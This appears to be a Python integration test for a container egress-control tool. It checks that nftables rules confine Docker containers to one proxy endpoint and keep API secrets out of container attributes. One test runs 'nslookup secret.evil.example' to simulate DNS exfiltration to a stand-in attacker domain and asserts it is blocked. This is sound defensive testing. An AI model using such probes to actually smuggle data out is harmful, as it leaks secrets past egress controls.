# SPDX-License-Identifier: Apache-2.0
"""A docker network of your own, as `keybrake egress docker` prints it, on a real bridge: what leaks
without the rules, what is left with them, and the Docker adapter's network= on it."""

import ctypes
import socket
import subprocess
import threading

import containers
import harness
import test_containers
from test_containers import POLICY, Place, adapter, needs

DOOR = "172.30.77.1"
NAME = "kbtest"
CLONE_NEWNET = 0x40000000


def in_namespace(name, make):
    """What `make` makes stays in that network namespace, whoever uses it."""
    made = []

    def enter():
        libc = ctypes.CDLL(None, use_errno=True)
        with open(f"/run/netns/{name}") as there:
            if libc.setns(there.fileno(), CLONE_NEWNET) == 0:  # this thread alone
                made.append(make())
    thread = threading.Thread(target=enter)
    thread.start()
    thread.join()
    return made[0]


def relay(listener, port):
    """To keybrake's door, which listens in another namespace than the bridge's."""
    def pump(source, sink):
        try:
            while data := source.recv(65536):
                sink.sendall(data)
            sink.shutdown(socket.SHUT_WR)
        except OSError:
            pass

    def serve():
        while True:
            try:
                one = listener.accept()[0]
            except OSError:
                return
            other = socket.create_connection(("127.0.0.1", port))
            for pair in ((one, other), (other, one)):
                threading.Thread(target=pump, args=pair, daemon=True).start()
    threading.Thread(target=serve, daemon=True).start()


@needs("dockerd", "runc", "nsenter", "nft", "iptables")
class Network(Place):
    more_options = ["--public-url", f"http://{DOOR}:8787"]

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.engine = containers.DockerWithNetworks(cls.rooms)
        cls.addClassCleanup(cls.engine.stop)
        cls.engine.load(containers.make_image(cls.root, cls.rooms / "image.tar"))
        recipe = subprocess.run([harness.BINARY, "egress", "docker", "--to", f"{DOOR}:8787", "--name",
                                 NAME], text=True, capture_output=True, check=True).stdout
        lines = [line for line in recipe.replace("\\\n", " ").splitlines() if line[0] != "#"]
        cls.network, cls.rules, cls.run_line = lines
        cls.engine.docker(*cls.network.split()[1:])

        def listeners():
            door = socket.create_server((DOOR, 8787))
            service = socket.create_server(("0.0.0.0", 9099))
            names = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            names.bind(("127.0.0.1", 53))
            names.setblocking(False)
            return door, service, names
        door, cls.service, cls.names = in_namespace(cls.engine.namespace.name, listeners)
        for one in (door, cls.service, cls.names):
            cls.addClassCleanup(one.close)
        relay(door, cls.keybrake.door_port)

    def load_rules(self):
        command = [harness.BINARY, *self.rules.split("|")[0].split()[1:]]
        rules = subprocess.run(command, text=True, capture_output=True, check=True).stdout
        subprocess.run([*self.engine.namespace.enter(), "nft", "-f", "-"], input=rules, text=True,
                       check=True)
        self.addCleanup(subprocess.run, [*self.engine.namespace.enter(), "nft", "delete", "table",
                                         "inet", NAME], check=False)

    def inside(self, script, *more):
        line = self.run_line.replace("--env-file ENV", " ".join(more)).replace("IMAGE", "agent:1")
        done = self.engine.docker(*line.split()[1:2], "--rm", "--ulimit", "nofile=1024:4096", "--ulimit",
                                  "nproc=4096:8192", *line.split()[2:], "/bin/sh", "-c", script,
                                  check=False)
        return done.stdout, done.stderr

    REACH = ("for one in %s; do curl -s -m 3 -o /dev/null http://$one/; echo $one $?; done"
             % f"{DOOR}:8787 {DOOR}:9099 192.0.2.1:80 127.0.0.1:9099")

    def reach(self):
        out, err = self.inside(self.REACH)
        found = dict(line.split() for line in out.splitlines())
        self.assertEqual(len(found), 4, err)
        return {name: int(code) for name, code in found.items()}

    def test_the_recipe(self):
        """curl's 7: refused; 28: nothing came, from a server that only listens: reached."""
        before = self.reach()
        self.assertEqual((before[f"{DOOR}:8787"], before[f"{DOOR}:9099"]), (0, 28))  # Docker's leak
        self.load_rules()
        after = self.reach()
        self.assertEqual(after, {f"{DOOR}:8787": 0, f"{DOOR}:9099": 7, "192.0.2.1:80": 7,
                                 "127.0.0.1:9099": 7})
        out, _ = self.inside("nslookup api.stripe.com 2>&1; nslookup secret.evil.example 127.0.0.11 2>&1;"
                             f" nslookup secret.evil.example {DOOR} 2>&1; echo over")
        self.assertTrue(out.endswith("over\n"))
        self.assertNotIn("Address 1: 1", out)
        with self.assertRaises(BlockingIOError):
            self.names.recv(512)  # no name asked inside went to the machine's resolver

    def test_the_adapters_network(self):
        self.load_rules()
        before = len(self.doubles["stripe"].calls)
        docker = test_containers.Engines.docker(self)
        script = ('curl -sS -o /dev/null -w "%{http_code} " -u "$STRIPE_API_KEY:" -d amount=2000 -d'
                  ' currency=usd -d source=tok_visa "$STRIPE_API_BASE/v1/charges"; curl -s -m 3 http://'
                  f'{DOOR}:9099/; echo $?; sleep 60')
        box = adapter.spawn(docker, image="agent:1", command=["/bin/sh", "-c", script],
                            key={**POLICY, "label": self.id()}, lifetime="2m", client=self.client(),
                            network=NAME, create={
                                "cap_drop": ["ALL"], "environment": {"PATH": "/bin"},
                                "ulimits": test_containers.Engines.ulimits(self)})
        self.addCleanup(box.teardown)
        self.eventually(lambda: b"7" in box.sandbox.logs(), 30)
        self.assertEqual(box.sandbox.logs(), b"200 7\n")
        self.assertEqual([(c["method"], c["path"]) for c in self.doubles["stripe"].calls[before:]],
                         [("POST", "/v1/charges")])
        self.assertNotIn(self.secrets["stripe"], str(box.sandbox.attrs))
        box.sandbox.kill()
        self.eventually(lambda: self.status(box.keys[0].id) == "revoked", 15)

    def test_networks_that_reach_more(self):
        for name in ("host", "bridge", "default"):
            with self.assertRaisesRegex(Exception, "reaches more than keybrake"):
                adapter.spawn(None, image="x", lifetime="1m", network=name, key=POLICY)


del Place
